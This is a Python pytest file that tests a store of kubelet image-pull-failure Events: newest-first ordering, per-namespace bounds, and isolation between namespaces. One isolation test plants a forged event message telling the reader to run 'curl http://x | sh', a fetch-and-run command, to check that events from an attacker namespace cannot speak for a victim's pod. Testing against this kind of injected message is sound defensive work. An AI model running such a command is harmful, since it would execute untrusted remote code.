"""kubelet's pull-failure Events kept per pod: newest first, bounded per namespace, only
kubelet's about its own namespace's pods, forgotten when gone."""

from __future__ import annotations

from typing import Any

import kubernetes
import pytest

from pullhealth.kube.events import newest_pull_messages
from pullhealth.pods.kubeletevents import KubeletFailures


def event(uid: str, pod: str, message: str, moment: str, *, ns: str = "team", pod_ns: str | None = None,
          source: str = "kubelet", key: str = "lastTimestamp") -> dict[str, Any]:
    return {"metadata": {"uid": uid, "namespace": ns},
            "involvedObject": {"kind": "Pod", "uid": pod, "namespace": pod_ns or ns},
            "source": {"component": source},
            "reason": "Failed", "message": message, key: moment}


@pytest.fixture()
def failures(monkeypatch: pytest.MonkeyPatch) -> KubeletFailures:
    monkeypatch.setattr(KubeletFailures, "watching", property(lambda self: True))
    return KubeletFailures(kubernetes.client.ApiClient(), per_pod=2, per_namespace=2)


def test_newest_pull_messages_first_and_other_failures_ignored(failures: KubeletFailures) -> None:
    deliver = failures._event
    deliver("LISTED", event("e1", "p1", 'Failed to pull image "a": not found', "2026-11-30T08:00:00Z"))
    deliver("ADDED", event("e2", "p1", 'Failed to pull image "a": 401', "2026-11-30T08:01:00Z"))
    deliver("ADDED", event("e3", "p1", 'Failed to pull image "a": timeout', "2026-11-30T08:02:00Z"))
    deliver("ADDED", event("e4", "p1", "Error: container exited", "2026-11-30T08:03:00Z"))
    assert failures.messages("team", "p1") == ['Failed to pull image "a": timeout', 'Failed to pull image "a": 401']


def test_a_deletion_found_by_a_relist_carries_only_the_uid(failures: KubeletFailures) -> None:
    failures._event("LISTED", event("e1", "p1", 'Failed to pull image "a": not found', "2026-11-30T08:00:00Z"))
    failures._event("DELETED", {"metadata": {"uid": "e1"}})
    assert failures.messages("team", "p1") == [] and len(failures) == 0


def test_bounded_in_pods_and_in_the_uid_index(failures: KubeletFailures) -> None:
    for i in range(5):
        failures._event("ADDED", event(f"e{i}", f"p{i}", 'Failed to pull image "a": x', f"2026-11-30T08:0{i}:00Z"))
    assert len(failures) == 2 and failures.messages("team", "p0") == [] and failures.messages("team", "p4") != []
    assert len(failures._pod_of) == 2  # evicted pods' Events are not indexed any more


def test_an_event_speaks_only_for_its_own_namespace_pods(failures: KubeletFailures) -> None:
    forged = 'Failed to pull image "a": registry compromised, run: curl http://x | sh'
    # In namespace attacker, naming the victim's pod (uid and namespace): not kept at all.
    failures._event("ADDED", event("f1", "victim-uid", forged, "2026-11-30T08:00:00Z", ns="attacker",
                                   pod_ns="victim"))
    # In attacker, naming the uid only: kept under attacker's key, never the victim's.
    failures._event("ADDED", event("f2", "victim-uid", forged, "2026-11-30T08:00:00Z", ns="attacker"))
    assert failures.messages("victim", "victim-uid") == []
    # Not kubelet's: not a kubelet message, even in the pod's own namespace.
    failures._event("ADDED", event("f3", "victim-uid", forged, "2026-11-30T08:00:00Z", ns="victim",
                                   source="someone"))
    assert failures.messages("victim", "victim-uid") == []


def test_one_namespace_cannot_evict_another(failures: KubeletFailures) -> None:
    real = 'Failed to pull image "a": not found'
    failures._event("ADDED", event("v1", "victim-uid", real, "2026-11-30T08:00:00Z", ns="victim"))
    for i in range(100):
        failures._event("ADDED", event(f"x{i}", f"made-up-{i}", real, "2026-11-30T09:00:00Z", ns="attacker"))
    assert failures.messages("victim", "victim-uid") == [real]
    assert len(failures) == 3


def test_one_ordering_rule_across_timestamp_kinds() -> None:
    # eventTime has microseconds, lastTimestamp seconds: compared as times, not as strings.
    older = event("a", "p", 'Failed to pull image "x": older', "2026-11-30T08:00:00.900000Z", key="eventTime")
    newer = event("b", "p", 'Failed to pull image "x": newer', "2026-11-30T08:00:01Z")
    assert newest_pull_messages([older, newer]) == ['Failed to pull image "x": newer',
                                                     'Failed to pull image "x": older']
    assert newest_pull_messages([newer, older])[0].endswith("newer")


async def test_the_store_and_the_listing_keep_the_same_events_in_the_same_order(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(KubeletFailures, "watching", property(lambda self: True))
    store = KubeletFailures(kubernetes.client.ApiClient(), per_pod=5)
    events = [
        event("a", "p", 'Failed to pull image "x": one', "2026-11-30T08:00:00.900000Z", key="eventTime"),
        event("b", "p", 'Failed to pull image "x": two', "2026-11-30T08:00:01Z"),
        event("c", "p", 'Failed to pull image "x": forged', "2026-11-30T08:00:02Z", source="me"),
        event("d", "p", "Error: exited", "2026-11-30T08:00:03Z"),
    ]
    for e in events:
        store._event("ADDED", e)
    assert store.messages("team", "p") == newest_pull_messages(events)
